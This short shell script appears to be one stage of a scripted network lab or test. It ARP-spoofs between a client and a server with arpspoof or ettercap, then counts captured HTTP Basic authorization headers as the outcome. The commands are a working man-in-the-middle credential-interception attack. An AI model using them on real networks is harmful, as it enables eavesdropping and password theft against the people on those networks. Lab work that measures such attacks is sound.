# Stand between the client and the server for a time.
me=$(cat /sys/class/net/eth0/address)
await visited
phase spoof
case $IMPLEMENTATION in
arpspoof)
	arpspoof -i eth0 -t "$CLIENT_ADDRESS" -r "$SERVER_ADDRESS" >/root/spoof 2>&1 &
	;;
ettercap)
	ettercap -T -q -i eth0 -M arp:remote "/$CLIENT_ADDRESS//" "/$SERVER_ADDRESS//" </dev/null >/root/spoof 2>&1 &
	;;
esac
spoof=$!
signal between
await over
# Both tell the right addresses before they end.
kill -INT $spoof
wait $spoof || true
signal gone
await end
outcome passwords="$(log reader | grep -c 'Authorization: Basic' || true)"
